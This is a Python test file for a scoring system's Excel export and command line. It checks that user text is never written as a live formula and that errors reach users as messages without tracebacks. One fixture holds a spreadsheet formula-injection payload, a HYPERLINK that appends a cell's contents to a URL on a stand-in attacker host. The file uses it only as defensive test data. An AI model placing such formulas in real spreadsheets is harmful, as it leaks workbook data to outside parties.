"""User text never becomes a live formula in an exported workbook; CLI errors are messages
(issue 10, items 13 and 17)."""

from __future__ import annotations

import asyncio
import io
import uuid
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from kiemchung.cli import main
from kiemchung.runtime.db import create_schema, make_engine, session_factory
from services.scoring.export import build_workbook, workbook_bytes
from services.scoring.handlers import load_units
from services.scoring.service import load_catalogue
from tests.scoring.kit import Scoring

EXPLANATION = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
TITLE = "=1+1"


async def _scores(url: str) -> None:
    engine = make_engine(url)
    create_schema(engine)
    s = Scoring(session_factory(engine))
    await s.register("so-noi-vu", "Sở Nội vụ")
    await s.self_score("so-noi-vu", "3.2", "10", explanation=EXPLANATION)
    await s.verdict("so-noi-vu", "1.1", uuid.UUID(int=1), number="11/KH-SNV", title=TITLE)
    engine.dispose()


def _formulas(book: Workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(book: Workbook) -> str:
    return "\n".join(
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value
    )


@pytest.fixture
def url(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'state.db'}"
    asyncio.run(_scores(url))
    return url


def test_export_xlsx_writes_user_text_as_text(url: str, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    args = [
        "export",
        "xlsx",
        "--year",
        "2025",
        "--level",
        "department",
        "-o",
        str(out),
        "--database-url",
        url,
    ]
    assert main(args) == 0
    book = load_workbook(out)
    assert _formulas(book) == []
    assert EXPLANATION in _texts(book)


def test_the_apis_workbook_bytes_carry_no_formula(url: str) -> None:
    sessions = session_factory(make_engine(url))
    with sessions() as session:
        book = build_workbook(session, load_catalogue(None), "department", 2025, load_units(session))
    loaded = load_workbook(io.BytesIO(workbook_bytes(book)))
    assert _formulas(loaded) == []
    assert EXPLANATION in _texts(loaded)


def test_export_to_an_unwritable_path_is_a_message(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "no-such-dir" / "x.xlsx"
    args = [
        "export",
        "xlsx",
        "--year",
        "2025",
        "--level",
        "department",
        "-o",
        str(missing),
        "--database-url",
        url,
    ]
    assert main(args) != 0
    err = capsys.readouterr().err
    assert "cannot write" in err
    assert "Traceback" not in err


@pytest.mark.parametrize("role", ["unit", "appraiser"])
def test_apikey_without_scope_is_a_message(role: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["apikey", "new", "--role", role, "--name", "x"]) == 2
    err = capsys.readouterr().err
    assert "scope" in err
    assert "Traceback" not in err
